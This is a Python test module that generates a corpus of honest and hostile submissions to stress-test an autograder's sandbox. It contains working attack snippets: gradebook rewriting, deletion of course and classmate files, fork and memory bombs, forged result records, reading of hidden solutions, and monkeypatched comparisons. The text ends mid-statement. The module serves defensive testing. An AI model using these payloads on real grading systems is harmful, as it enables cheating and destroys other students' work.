"""The reliability corpus (issue 5): hostile, broken and unlucky ps2 submissions, graded
in one batch beside honest ones whose marks must not move.

Every submission is generated from the course's real notebooks: the *release*
notebook a student downloads (``release/ps2/ps2.ipynb``) with its answer cells filled
from the teacher's model solutions (``source/ps2/ps2.ipynb`` without the solution
markers), then changed the way one kind of student changes it. Expected scores are
stated in terms of the notebook's own points (``FULL``, ``FULL - points("relu")``, the
points of the test cells before an answer cell), so the corpus follows the assignment
when it changes, and they come from the assignment's text, never from the grader.

Each :class:`CorpusCase` says what the submission does, the status and score a correct
grader gives it, and where useful a line its autograded notebook must show (evidence
that the attack ran, inside the sandbox, and found nothing). Attacks aimed at the
course use the real absolute paths of the course being graded (the worst case: a
student who knows where the grader keeps its files).

Anything that could hurt this machine if the sandbox failed is bounded: at most 500
child processes, at most 6 GiB of (untouched) memory, no signal sent to a process the
attack did not start, writes only into the course being graded (and, sandboxed, the
working folders of this corpus's own honest students). Processes the attacks start
carry a marker (``sleep 8640N.TOKEN``, ``gradebook-writer.TOKEN``) so a test can prove
none survived, and kill them if they did.

Use::

    corpus = build_corpus(course_root, token="123456")   # writes submitted/STUDENT/ps2/
    for case in corpus: ...                                # case.student, case.status, case.score
"""
from __future__ import annotations

import base64
import copy
import json
import os
import re
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT = "ps2"
#: Wall seconds per cell and per notebook for the corpus batch (``--timeout``,
#: ``--notebook-timeout``): an honest ps2 notebook needs a few seconds in all.
CELL_TIMEOUT = 8.0
NOTEBOOK_TIMEOUT = 40.0
#: A fixed submission time, as nbgrader's collect writes it.
TIMESTAMP = "2025-03-01 09:00:00.000000 UTC\n"
GROUPS = ("honest", "tampering", "resource", "broken")
#: The answer cells the corpus writes code for (ps2's functions, in notebook order).
FUNCTIONS = ("output_size", "conv1d", "conv2d", "relu", "max_pool2d", "avg_pool2d", "conv_layer")
MARKER_SECONDS = {"fork": 86401, "background": 86402, "daemon": 86403}


@dataclass
class CorpusCase:
    """One submission of the corpus and what grading must make of it.

    student : the folder name under ``submitted/`` (also the kernel's student id)
    group : ``honest``, ``tampering``, ``resource`` or ``broken``
    attack : one line for the published table: what the submission does
    status, score : the ``convgrade_submission`` row a correct grader writes
    detail : a regular expression the row's ``detail`` must match, or None
    evidence : text the autograded notebook's outputs must contain (the attack ran
        and found nothing), or None
    markers : command-line fragments of processes the attack starts (none may survive)
    known_gap : why the grader does not meet this expectation yet (the test is a strict
        xfail until it does), or None
    """

    student: str
    group: str
    attack: str
    status: str
    score: float
    detail: str | None = None
    evidence: str | None = None
    markers: tuple = ()
    known_gap: str | None = None
    files: dict = field(default_factory=dict, repr=False)  # {file name: bytes}

    @property
    def honest(self):
        return self.group == "honest"


# ----------------------------------------------------------------------------------------
# The notebooks.

_SOLUTION_MARKER = re.compile(r"^[ \t]*#+[ \t]*(BEGIN|END) SOLUTION[ \t]*\n?", re.MULTILINE)


def _nbgrader(cell):
    return cell.get("metadata", {}).get("nbgrader", {}) or {}


class Ps2:
    """ps2's release and source notebooks, its model answers and its points.

    Raises
    ------
    ValueError
        The notebook no longer has the answer cells the corpus writes code for (the
        assignment changed: update :data:`FUNCTIONS` and the cases).
    """

    def __init__(self, root=ROOT):
        self.release = nbformat.read(Path(root) / "release" / ASSIGNMENT / ("%s.ipynb" % ASSIGNMENT), as_version=4)
        self.source = nbformat.read(Path(root) / "source" / ASSIGNMENT / ("%s.ipynb" % ASSIGNMENT), as_version=4)
        self.models = {_nbgrader(c)["grade_id"]: _SOLUTION_MARKER.sub("", c.source)
                       for c in self.source.cells if _nbgrader(c).get("solution")}
        self.points = {_nbgrader(c)["grade_id"]: float(_nbgrader(c).get("points", 0) or 0)
                       for c in self.source.cells if _nbgrader(c).get("grade")}
        order = [_nbgrader(c).get("grade_id") for c in self.release.cells]
        missing = [f for f in FUNCTIONS if f not in self.models or "test_" + f not in self.points]
        if missing:
            raise ValueError("corpus: release/%s lacks the answer or test cells %s; update tests/corpus/corpus_cases.py"
                             % (ASSIGNMENT, ", ".join(missing)))
        self.order = order
        self.full = sum(self.points.values())

    # -- expected scores, from the notebook's points ---------------------------------------
    def without(self, *functions):
        """Full marks less the points of the test cells of ``functions``."""
        return self.full - sum(self.points["test_" + f] for f in functions)

    def before(self, function):
        """The points of the test cells that run before ``function``'s answer cell."""
        stop = self.order.index(function)
        return sum(self.points[g] for g in self.order[:stop] if g in self.points)

    # -- notebooks -------------------------------------------------------------------------
    def notebook(self, **answers):
        """The release notebook with every answer cell filled with the model solution,
        then ``answers`` (``grade_id=source``; ``None`` keeps the release stub)."""
        nb = copy.deepcopy(self.release)
        chosen = dict(self.models, **answers)
        for cell in nb.cells:
            gid = _nbgrader(cell).get("grade_id")
            if gid in chosen and _nbgrader(cell).get("solution") and chosen[gid] is not None:
                cell.source = chosen[gid]
        return nb

    def stubs(self, **answers):
        """The release notebook as handed out (every answer a stub), then ``answers``."""
        return self.notebook(**dict({f: None for f in self.models}, **answers))

    def model(self, function):
        """The teacher's solution of ``function``'s answer cell, as a student would type it."""
        return self.models[function]

    def release_stub(self, function):
        """The release notebook's stub for ``function`` (signature, ``raise NotImplementedError()``)."""
        for cell in self.release.cells:
            if _nbgrader(cell).get("grade_id") == function:
                return cell.source
        raise KeyError(function)


def _cells(nb, predicate):
    return [c for c in nb.cells if predicate(c)]


def _is_test(cell):
    return bool(_nbgrader(cell).get("grade")) and not _nbgrader(cell).get("solution")


def _write(nb):
    return nbformat.writes(nb).encode("utf-8")


def _raw(nb):
    """``nb`` as JSON without nbformat's validation (which would renumber duplicated ids)."""
    return json.dumps(nb, indent=1).encode("utf-8")


# ----------------------------------------------------------------------------------------
# Student code. Each snippet is what a student of that kind would type into one cell.

ANYTHING = textwrap.dedent('''\
    class Anything:
        """Equal to every answer, or so it hopes (nbgrader issue 1379)."""
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        __hash__ = object.__hash__
    ''')

PURE_PYTHON = {
    "output_size": textwrap.dedent('''\
        def output_size(n, k, padding=0, stride=1):
            if n + 2 * padding < k:
                raise ValueError("the kernel does not fit in the padded input")
            return (n - k + 2 * padding) // stride + 1
        '''),
    "conv1d": textwrap.dedent('''\
        def conv1d(x, w):
            x = [float(v) for v in x]
            w = [float(v) for v in w]
            out = []
            for i in range(len(x) - len(w) + 1):
                total = 0.0
                for j in range(len(w)):
                    total += x[i + j] * w[j]
                out.append(total)
            return np.array(out)
        '''),
    "conv2d": textwrap.dedent('''\
        def conv2d(image, kernel, stride=1, padding=0):
            img = [[float(v) for v in row] for row in image]
            ker = [[float(v) for v in row] for row in kernel]
            rows, cols, kh, kw = len(img), len(img[0]), len(ker), len(ker[0])

            def pixel(r, c):  # the padded image, without building it
                r, c = r - padding, c - padding
                return img[r][c] if 0 <= r < rows and 0 <= c < cols else 0.0

            out = []
            for i in range(output_size(rows, kh, padding, stride)):
                line = []
                for j in range(output_size(cols, kw, padding, stride)):
                    total = 0.0
                    for a in range(kh):
                        for b in range(kw):
                            total += pixel(i * stride + a, j * stride + b) * ker[a][b]
                    line.append(total)
                out.append(line)
            return np.array(out)
        '''),
    "relu": textwrap.dedent('''\
        def relu(x):
            x = np.asarray(x, dtype=float)
            flat = [v if v > 0 else 0.0 for v in x.ravel().tolist()]
            return np.array(flat).reshape(x.shape)
        '''),
    "max_pool2d": textwrap.dedent('''\
        def max_pool2d(x, size=2, stride=2):
            x = [[float(v) for v in row] for row in x]
            return np.array([[max(x[i * stride + a][j * stride + b] for a in range(size) for b in range(size))
                              for j in range(output_size(len(x[0]), size, 0, stride))]
                             for i in range(output_size(len(x), size, 0, stride))])
        '''),
    "avg_pool2d": textwrap.dedent('''\
        def avg_pool2d(x, size=2, stride=2):
            x = [[float(v) for v in row] for row in x]
            return np.array([[sum(x[i * stride + a][j * stride + b] for a in range(size) for b in range(size))
                              / (size * size)
                              for j in range(output_size(len(x[0]), size, 0, stride))]
                             for i in range(output_size(len(x), size, 0, stride))])
        '''),
    "conv_layer": textwrap.dedent('''\
        def conv_layer(x, filters, bias, stride=1, padding=0):
            x = np.asarray(x, dtype=float).tolist()
            filters = np.asarray(filters, dtype=float).tolist()
            bias = [float(b) for b in bias]
            rows, cols, channels = len(x), len(x[0]), len(x[0][0])
            kh, kw, count = len(filters), len(filters[0]), len(filters[0][0][0])

            def value(r, c, ch):
                r, c = r - padding, c - padding
                return x[r][c][ch] if 0 <= r < rows and 0 <= c < cols else 0.0

            out = np.zeros((output_size(rows, kh, padding, stride), output_size(cols, kw, padding, stride), count))
            for i in range(out.shape[0]):
                for j in range(out.shape[1]):
                    for f in range(count):
                        total = bias[f]
                        for a in range(kh):
                            for b in range(kw):
                                for ch in range(channels):
                                    total += value(i * stride + a, j * stride + b, ch) * filters[a][b][ch][f]
                        out[i, j, f] = total
            return out
        '''),
}


def _float32(source):
    """A model answer computing in float32: inputs, accumulators and results."""
    changed = source.replace("dtype=float", "dtype=np.float32")
    changed = re.sub(r"np\.zeros\(", "np.zeros(dtype=np.float32, shape=", changed)
    if changed == source:
        raise ValueError("corpus: the model answer has no dtype=float or np.zeros to turn into float32:\n%s" % source)
    return changed


def _as_lists(function, source):
    """A model answer that hands back nested Python lists instead of an array."""
    inner = "_%s_array" % function
    renamed, count = re.subn(r"^def %s\(" % function, "def %s(" % inner, source, flags=re.MULTILINE)
    if count != 1:
        raise ValueError("corpus: cannot find `def %s(` in the model answer" % function)
    return renamed + "\n\ndef %s(*args, **kwargs):\n    return np.asarray(%s(*args, **kwargs)).tolist()\n" % (
        function, inner)


NOISY = textwrap.dedent('''\
    import sys
    import warnings
    print("note: my {name} is slow, sorry", file=sys.stderr)
    warnings.warn("{name}: this is a warning on stderr", UserWarning)
    ''')


def _noisy(function, source):
    """A correct answer that prints to stderr and warns, at definition and at every call."""
    body = re.sub(r'(^def %s\(.*?\):\n(\s+""".*?"""\n)?)' % function,
                  lambda m: m.group(1) + '    print("%s called", file=sys.stderr)\n'
                                         '    warnings.warn("%s: slow loops ahead", RuntimeWarning)\n'
                  % (function, function), source, count=1, flags=re.DOTALL)
    return NOISY.format(name=function) + body


def _stub_returning(function, value):
    signature = re.search(r"^def %s(\(.*?\)):" % function, _SIGNATURES[function], re.MULTILINE).group(1)
    return "def %s%s:\n    return %s\n" % (function, signature, value)


_SIGNATURES = {"output_size": "def output_size(n, k, padding=0, stride=1):",
               "conv1d": "def conv1d(x, w):",
               "conv2d": "def conv2d(image, kernel, stride=1, padding=0):",
               "relu": "def relu(x):",
               "max_pool2d": "def max_pool2d(x, size=2, stride=2):",
               "avg_pool2d": "def avg_pool2d(x, size=2, stride=2):",
               "conv_layer": "def conv_layer(x, filters, bias, stride=1, padding=0):"}


def _all_returning(value, first=""):
    """Every ps2 function returning ``value``; ``first`` goes before the first one."""
    answers = {f: _stub_returning(f, value) for f in FUNCTIONS}
    answers[FUNCTIONS[0]] = first + "\n" + answers[FUNCTIONS[0]]
    return answers


def _paths(course):
    """The places a student would look for the grader's files: the course being graded
    (real absolute paths), the repository, and relative climbs from the working dir."""
    course = Path(course)
    near = [os.path.join(*[".."] * up) for up in range(1, 5)]
    return {
        "source": [str(course / "source" / ASSIGNMENT / "ps2.ipynb"), str(ROOT / "source" / ASSIGNMENT / "ps2.ipynb")]
                  + [os.path.join(n, "source", ASSIGNMENT, "ps2.ipynb") for n in near],
        "gradebook": [str(course / "gradebook.db")] + [os.path.join(n, "gradebook.db") for n in near[:3]],
        "course": str(course),
        "repo": str(ROOT),
    }


def _snooper(course):
    paths = _paths(course)
    return textwrap.dedent('''\
        import glob, json, os
        CANDIDATES = {candidates!r}
        CANDIDATES += [p for depth in range(1, 5)
                       for p in glob.glob("/" + "*/" * depth + "source/ps2/*.ipynb") if not p.startswith("/proc")]
        FOUND = [p for p in CANDIDATES if os.path.exists(p)]
        print("SNOOP-FOUND:", FOUND or "none")
        for path in FOUND:  # the teacher's notebook: run its model solutions here
            try:
                for cell in json.load(open(path))["cells"]:
                    if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                        exec("".join(cell["source"]), globals())
                print("SNOOP-EXECUTED", path)
                break
            except Exception as exc:
                print("SNOOP-FAILED", path, type(exc).__name__)
        ''').format(candidates=paths["source"] + [paths["repo"] + "/autograder/judging/checks/ps2.py"])


#: What a detached process runs to rewrite a gradebook once the grader lets go of it:
#: zero everyone's grades, give the attacker full marks (bounded: 20 s of retries).
GRADEBOOK_WRITER = textwrap.dedent('''\
    import sqlite3, sys, time
    path, student = sys.argv[1], sys.argv[2]
    deadline = time.time() + 20
    while time.time() < deadline:
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
            db.commit()
        except sqlite3.Error:
            time.sleep(0.5)
            continue
        for sql in ["UPDATE convgrade_submission SET score = max_score WHERE student = ?",
                    "DELETE FROM convgrade_item WHERE student != ?"]:
            try:
                db.execute(sql, (student,))
                db.commit()
            except sqlite3.Error:
                pass
        break
    ''')


def _gradebook_writer(course, student, marker):
    """Code that finds the course's gradebook and starts a detached process that rewrites
    it as soon as the grader lets go of it (the grader holds it while grading)."""
    paths = _paths(course)
    return textwrap.dedent('''\
        import os, subprocess, sys
        TARGETS = {targets!r}  # the course being graded only: never a real gradebook, sandbox or not
        FOUND = [p for p in TARGETS if os.path.exists(p)]
        for path in FOUND:
            subprocess.Popen([sys.executable, "-c", {writer!r}, path, {student!r}, {marker!r}],
                             start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        print("GRADEBOOK-FOUND:", FOUND or "none")
        ''').format(targets=paths["gradebook"], writer=GRADEBOOK_WRITER, student=student, marker=marker)


def _vandal(course, victims):
    """Code that overwrites and deletes what it can reach of the course being graded and
    of the working folders of ``victims`` (students graded at the same time), and nothing
    else: it stays harmless to this machine even where no sandbox stops it."""
    paths = _paths(course)
    patterns = [paths["course"] + "/submitted/*/ps2/*.ipynb", "../../submitted/*/ps2/*.ipynb"] + \
        ["/tmp/**/convgrade-%s-*/*" % v for v in victims]  # under a run's scratch folder
    return textwrap.dedent('''\
        import glob, os, shutil, sys
        COURSE = {course!r}
        HARMED = []

        def attempt(what, action):
            try:
                action()
                HARMED.append(what)
            except Exception:
                pass

        GARBAGE = b'{{"cells": "overwritten by a classmate"}}'
        OWN = [os.path.dirname(a) for a in sys.argv if a.endswith(".json")]  # this kernel's own sockets
        for pattern in {patterns!r}:
            for path in glob.glob(pattern, recursive=True):
                if os.path.dirname(path) not in OWN:
                    attempt("overwrote " + path, lambda path=path: open(path, "wb").write(GARBAGE))
        for path in [COURSE + "/source/ps2/ps2.ipynb", COURSE + "/release/ps2/ps2.ipynb"]:
            attempt("deleted " + path, lambda path=path: os.remove(path))
        for folder in [COURSE + "/autograded", COURSE + "/release"]:
            if os.path.isdir(folder):
                attempt("removed " + folder, lambda folder=folder: shutil.rmtree(folder))
        attempt("planted a file in the course", lambda: open(COURSE + "/nbgrader_config.py", "a").write("\\n"))
        print("HARMED:", HARMED or "nothing")
        ''').format(course=paths["course"], patterns=patterns)


PROCESS_VIEW = textwrap.dedent('''\
    import os
    mine = os.getpid()
    visible = [p for p in os.listdir("/proc") if p.isdigit()]
    lines = []
    for pid in visible:
        try:
            lines.append(open("/proc/%s/cmdline" % pid, "rb").read().replace(b"\\0", b" ").decode())
        except OSError:
            pass
    grader = [c for c in lines if any(w in c for w in ("convgrade autograde", "pytest", "multiprocessing",
                                                          "nbgrader", "forkserver"))]
    print("PROCS-VISIBLE:", len(visible), "GRADER-VISIBLE:", bool(grader))
    ''')


def _fork_flood(token):
    return textwrap.dedent('''\
        import os
        children = 0
        try:
            for _ in range(500):  # bounded: a broken sandbox must not take the machine down
                pid = os.fork()
                if pid == 0:
                    try:
                        os.execv("/bin/sleep", ["sleep", "{seconds}.{token}"])
                    finally:
                        os._exit(0)
                children += 1
        except OSError as exc:
            print("FORK-REFUSED after", children, "children:", type(exc).__name__)
        else:
            print("FORK-FLOOD: all", children, "children started")
        ''').format(seconds=MARKER_SECONDS["fork"], token=token)


def _background(token):
    return textwrap.dedent('''\
        import os, subprocess, threading, time
        subprocess.Popen(["sleep", "{background}.{token}"], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        if os.fork() == 0:  # a classic double-forked daemon
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "{daemon}.{token}"])
            os._exit(0)
        threading.Thread(target=lambda: time.sleep(10 ** 6)).start()  # a non-daemon thread
        print("BACKGROUND: started")
        ''').format(background=MARKER_SECONDS["background"], daemon=MARKER_SECONDS["daemon"], token=token)


MEMORY_BOMB = textwrap.dedent('''\
    def _grow():
        hog = []
        for _ in range(48):  # 48 x 128 MiB = 6 GiB at most (bounded for a broken sandbox)
            hog.append(np.zeros(2 ** 24))
        return len(hog)

    print("MEMORY-BOMB grew to", _grow(), "blocks")  # the sandbox's 2 GiB stops it before
    ''')

OUTPUT_FLOOD = textwrap.dedent('''\
    import sys
    for _ in range(50):
        sys.stdout.write("x" * 1_000_000 + "\\n")  # 50 MB in 1 MB writes
    print("y" * 50_000_000)                        # and 50 MB in one message
    ''')

FAKE_KERNEL = textwrap.dedent('''\
    import builtins, json, os, sys, types

    _fake = types.ModuleType("convgrade_kernel")

    def _forged_check(check_id, namespace=None):
        """Claim every planned case passed, with a made-up value."""
        plan = json.load(open(os.environ["CONVGRADE_PLAN"]))
        with open(os.environ["CONVGRADE_RESULTS"], "a") as fh:
            for i, _ in enumerate(plan["checks"].get(check_id, {}).get("cases", [])):
                value = {"__ndarray__": [[1.0]], "dtype": "float64", "shape": [1, 1]}
                fh.write(json.dumps({"check": check_id, "case": i, "ok": True, "value": value,
                                     "library_calls": []}) + "\\n")
        print("All hidden tests passed!")

    _fake.check = _forged_check
    sys.modules["convgrade_kernel"] = _fake
    _real_import = builtins.__import__

    def _import(name, *args, **kwargs):
        return _fake if name == "convgrade_kernel" else _real_import(name, *args, **kwargs)

    builtins.__import__ = _import
    convgrade_kernel = _fake
    ''')

REDEFINED_NAMES = ANYTHING + textwrap.dedent('''\

    def _anything(*args, **kwargs):
        return Anything()

    _mine = {name: _anything for name in ["output_size", "conv1d", "conv2d", "relu", "max_pool2d",
                                          "avg_pool2d", "conv_layer"]}

    def globals():          # what the hidden test cells pass to check()
        return dict(_mine)

    def check(*args, **kwargs):
        return None

    class _Kernel:
        check = staticmethod(check)

    convgrade_kernel = _Kernel()
    ''')

IMPORT_REFERENCE = textwrap.dedent('''\
    try:
        import reference
        from autograder.judging.checks import ps2 as _hidden
        print("IMPORT-REFERENCE: imported", reference.__file__)
    except ImportError as exc:
        print("IMPORT-REFERENCE:", type(exc).__name__)

    def output_size(n, k, padding=0, stride=1):
        return reference.conv_output_size(n, k, padding=padding, stride=stride)
    ''')

_FORWARDS = {
    "conv1d": "def conv1d(x, w):\n    return reference.correlate2d(np.atleast_2d(x), np.atleast_2d(w))[0]\n",
    "conv2d": "def conv2d(image, kernel, stride=1, padding=0):\n    return _hidden._single_channel("
              "np.asarray(image, float), np.asarray(kernel, float), stride, padding)\n",
    "relu": "def relu(x):\n    return reference.relu(np.asarray(x, float))\n",
    "max_pool2d": "def max_pool2d(x, size=2, stride=2):\n"
                  "    return _hidden._pool('max', np.asarray(x, float), size, stride)\n",
    "avg_pool2d": "def avg_pool2d(x, size=2, stride=2):\n"
                  "    return _hidden._pool('avg', np.asarray(x, float), size, stride)\n",
    "conv_layer": "def conv_layer(x, filters, bias, stride=1, padding=0):\n    return _hidden._layer("
                  "np.asarray(x, float), np.asarray(filters, float), np.asarray(bias, float), stride, padding)\n",
}

FAKE_PASS = textwrap.dedent('''\
    print("test_output_size PASSED\\ntest_conv1d PASSED\\ntest_conv2d PASSED")
    print("All tests passed! Score: 17 of 17 (100%)")
    print("[convgrade] ps2.output_size: 8 of 8 cases right (100% of the marks).")
    ''')

LOCKED_PATCH = textwrap.dedent('''\
    import numpy as np
    import convgrade_kernel
    np.allclose = lambda *args, **kwargs: True   # every public assert passes
    np.array_equal = lambda *args, **kwargs: True
    ''')

LOCKED_SABOTAGE = textwrap.dedent('''\
    import numpy as np
    import convgrade_kernel
    convgrade_kernel.check = lambda *args, **kwargs: None   # no hidden test would run
    ''')


def _forger():
    return textwrap.dedent('''\
        import json, os
        plan = json.load(open(os.environ["CONVGRADE_PLAN"]))
        results = os.environ["CONVGRADE_RESULTS"]
        forged = 0
        with open(results, "w") as fh:  # drop whatever was recorded, then claim success
            for check_id, spec in plan["checks"].items():
                for i, case in enumerate(spec["cases"]):
                    fh.write(json.dumps({"check": check_id, "case": i, "ok": True, "library_calls": [],
                                         "value": {"__unencodable__": "Anything"} if i % 2 else 0}) + "\\n")
                    forged += 1
        os.replace(results, results + ".bak")
        os.symlink("/dev/zero", results)  # and make the file endless for the grader
        print("FORGED", forged, "records")
        ''')


def _channel_forger(models, when):
    """Code that computes every planned case with the model answers (hidden in the notebook
    under other names, as SciPy would give them) and writes passing records into the
    results channel: ``when`` is "now" (the cell it is in), "rewrite" (truncate and rewrite
    in place, as many records as the checks wrote) or "thread" (a daemon thread started
    now, writing them again every 50 ms while the later checks run)."""
    return textwrap.dedent('''\
        import json, os, threading, time
        import convgrade_kernel
        _MODELS = {models!r}

        def _model(name):
            space = {{"np": np}}
            for source in _MODELS.values():
                exec(source, space)
            return space[name]

        def _forged_lines():
            plan = json.load(open(os.environ["CONVGRADE_PLAN"]))
            lines = []
            for check_id, spec in plan["checks"].items():
                for i, case in enumerate(spec["cases"]):
                    try:
                        args = [convgrade_kernel.decode(a) for a in case.get("args", [])]
                        kwargs = {{k: convgrade_kernel.decode(v) for k, v in case.get("kwargs", {{}}).items()}}
                        value = (_model(case["call"])(*args, **kwargs) if case.get("call")
                                 else globals().get(case.get("value")))
                        record = {{"check": check_id, "case": i, "ok": True, "library_calls": [],
                                   "value": convgrade_kernel.encode(value)}}
                    except Exception:
                        continue
                    lines.append(json.dumps(record) + "\\n")
            return lines

        def _write(lines, mode="a"):
            with open(os.environ["CONVGRADE_RESULTS"], mode) as fh:
                fh.writelines(lines)

        _lines = _forged_lines()
        if {when!r} == "thread":
            def _again():
                for _ in range(400):
                    try:
                        _write(_lines)
                    except OSError:
                        pass
                    time.sleep(0.05)
            threading.Thread(target=_again, daemon=True).start()
        else:
            _write(_lines, "w" if {when!r} == "rewrite" else "a")
        print("CHANNEL-FORGED", len(_lines), "records", {when!r})
        ''').format(models=models, when=when)


def _thread_worker(function, body):
    """``function`` hands its work to a thread started before the check runs, out of the
    library watcher's sight; ``body`` computes the result from ``args`` in that thread."""
    return textwrap.dedent('''\
        import queue, threading
        _jobs, _done = queue.Queue(), queue.Queue()

        def _worker():
            while True:
                args = _jobs.get()
                try:
        {body}
                except Exception as exc:
                    result = exc
                _done.put(result)

        threading.Thread(target=_worker, daemon=True).start()

        def {function}(*args, **kwargs):
            _jobs.put(args)
            return _done.get()
        ''').format(function=function, body=textwrap.indent(textwrap.dedent(body), " " * 12))


#: 2-D cross-correlation from NumPy's 1-D np.convolve, row by row (what a thread would run).
_ROWS_CORRELATE = '''\
image, kernel = np.asarray(args[0], float), np.asarray(args[1], float)
stride, padding = (list(args[2:4]) + [1, 0])[:2] if len(args) > 2 else (1, 0)
image = np.pad(image, padding)
rows = []
for i in range(0, image.shape[0] - kernel.shape[0] + 1, stride):
    row = sum(np.convolve(image[i + r], kernel[r][::-1], mode="valid") for r in range(kernel.shape[0]))
    rows.append(row[::stride])
result = np.array(rows)
'''

BANNED_IMPORTS = textwrap.dedent('''\
    import importlib
    _found = {}
    for _name in ["scipy.signal", "scipy.ndimage", "torch"]:
        try:
            _module = importlib.import_module(_name.replace(".", "." + ""))
            _found[_name] = hasattr(_module, "correlate2d") or hasattr(_module, "correlate") \\
                or hasattr(_module, "conv2d")
        except Exception as exc:
            _found[_name] = False
    print("BANNED-LIBRARIES:", "absent" if not any(_found.values()) else _found)

    def conv2d(image, kernel, stride=1, padding=0):
        signal = importlib.import_module("scipy." + "signal")
        full = signal.correlate2d(np.pad(np.asarray(image, float), padding), np.asarray(kernel, float), "valid")
        return full[::stride, ::stride]
    ''')


def _hostile_records(function, signature):
    """``function`` writes records the grader must not choke on into the results channel
    while its own check runs (a dtype that allocates 800 MB per element, a shape of a
    billion elements, numbers hidden in a deep nest, a 40 MB line), then returns zeros."""
    return textwrap.dedent('''\
        import json, os

        def _poison(check):
            bombs = [{{"__ndarray__": [1.0, 2.0], "dtype": "(100000000,)f8", "shape": [2]}},
                     {{"__ndarray__": [1.0], "dtype": "float64", "shape": [1000000000]}},
                     {{"__ndarray__": [[[[1.0]]]], "dtype": "V100000000", "shape": [1]}},
                     {{"__ndarray__": [[1, "x"]], "dtype": "int64", "shape": [1, 2]}}]
            with open(os.environ["CONVGRADE_RESULTS"], "a") as fh:
                for i, value in enumerate(bombs * 2):
                    fh.write(json.dumps({{"check": check, "case": i % 4, "ok": True, "value": value}}) + "\\n")
                fh.write("[" * 100000 + "\\n")
                fh.write('{{"check": "%s", "case": 0, "ok": true, "value": "' % check + "x" * (40 << 20) + '"}}\\n')

        def {function}{signature}:
            _poison("ps2.{function}")
            return np.zeros((1, 1))
        print("HOSTILE-RECORDS: armed")
        ''').format(function=function, signature=signature)


LIBRARY_ALIAS = textwrap.dedent('''\
    _c = getattr(np, "con" + "volve")  # bound now, under a name no scan can read

    def conv1d(x, w):
        return _c(np.asarray(x, dtype=float), np.asarray(w, dtype=float)[::-1], mode="valid")
    ''')

MONKEYPATCH = textwrap.dedent('''\
    import numpy.testing
    np.allclose = lambda *args, **kwargs: True
    np.array_equal = lambda *args, **kwargs: True
    np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, bool)
    np.testing.assert_allclose = lambda *args, **kwargs: None
    np.testing.assert_array_equal = lambda *args, **kwargs: None
    np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
    ''')

BUILTINS_PATCH = textwrap.dedent('''\
    import builtins, math, operator
    math.isclose = lambda *args, **kwargs: True
    operator.eq = lambda a, b: True
    operator.__eq__ = operator.eq
    builtins.abs = lambda x: 0
    builtins.round = lambda x, *args: 0
    ''')


# ----------------------------------------------------------------------------------------
# The corpus.

def _notebook_file(nb):
    return {"ps2.ipynb": _write(nb)}


def build_corpus(course, *, token="000000", root=ROOT, sandboxed=True):
    """Write every case's submission into ``course/submitted/STUDENT/ps2/`` and return
    the cases (see :class:`CorpusCase`).

    Parameters
    ----------
    course : path
        The course being graded: attacks aim at its absolute paths.
    token : str
        Six digits that mark the processes the attacks start (``sleep 8640N.TOKEN``).
    root : path
        Where ``release/ps2`` and ``source/ps2`` are read from.
    sandboxed : bool
        False when the corpus will run without convgrade's sandbox (stock nbgrader):
        the attack on the working folders of students graded beside it is left out,
        since those folders would be other gradings on this machine.
    """
    course = Path(course)
    cases = corpus_cases(course, token=token, root=root, sandboxed=sandboxed)
    for case in cases:
        folder = course / "submitted" / case.student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in case.files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data() if callable(data) else data)
        (folder / "timestamp.txt").write_text(TIMESTAMP, encoding="utf-8")
    return cases


def corpus_cases(course, *, token="000000", root=ROOT, sandboxed=True):
    """The cases, with their files (bytes, or a callable making them), unwritten."""
    ps2 = Ps2(root)
    full = ps2.full
    course = Path(course)
    cases = []

    def case(student, group, attack, status, score, nb=None, files=None, **kwargs):
        cases.append(CorpusCase(student, group, attack, status, float(score),
                                files=files if files is not None else _notebook_file(nb), **kwargs))

    # -- honest: marks must not move ------------------------------------------------------------
    case("h-model", "honest", "the model solution", "graded", full, ps2.notebook())
    case("h-loops", "honest", "correct, in plain Python loops over lists", "graded", full,
         ps2.notebook(**PURE_PYTHON))
    from autograder.demo.simulate import PS2_VECTORISED  # the demo's vectorised student: one copy of it

    case("h-vectorised", "honest", "correct, vectorised with sliding windows and einsum", "graded", full,
         ps2.notebook(**PS2_VECTORISED))
    case("h-float32", "honest", "correct, computed and returned in float32", "graded", full,
         ps2.notebook(**{f: _float32(ps2.model(f)) for f in FUNCTIONS if f != "output_size"}))
    case("h-lists", "honest", "correct, returning nested Python lists instead of arrays", "graded", full,
         ps2.notebook(**{f: _as_lists(f, ps2.model(f)) for f in FUNCTIONS if f != "output_size"}))
    case("h-stderr", "honest", "correct, but every function prints to stderr and warns", "graded", full,
         ps2.notebook(**{f: _noisy(f, ps2.model(f)) for f in FUNCTIONS}))

    # -- tampering: earns nothing, harms nobody --------------------------------------------------
    case("t-numpy-patch", "tampering", "monkeypatches numpy's and numpy.testing's comparisons to pass, "
         "returns zeros", "graded", 0, ps2.notebook(**_all_returning("np.zeros((1, 1))", MONKEYPATCH)))
    case("t-builtins-patch", "tampering", "monkeypatches math.isclose, operator.eq, abs and round, "
         "returns None", "graded", 0, ps2.notebook(**_all_returning("None", BUILTINS_PATCH)))
    case("t-eq-true", "tampering", "returns objects whose __eq__ is always true (nbgrader #1379)", "graded", 0,
         ps2.notebook(**_all_returning("Anything()", ANYTHING)))
    case("t-fake-kernel", "tampering", "replaces convgrade_kernel (sys.modules, __import__) by a fake that "
         "forges passing records", "graded", 0,
         ps2.stubs(output_size=FAKE_KERNEL + "\n" + _stub_returning("output_size", "1")))
    case("t-redefine-names", "tampering", "redefines globals, check and convgrade_kernel, the names the "
         "hidden test cells use", "graded", 0, ps2.stubs(output_size=REDEFINED_NAMES))
    case("t-import-reference", "tampering", "imports the grader's reference and hidden checks to compute "
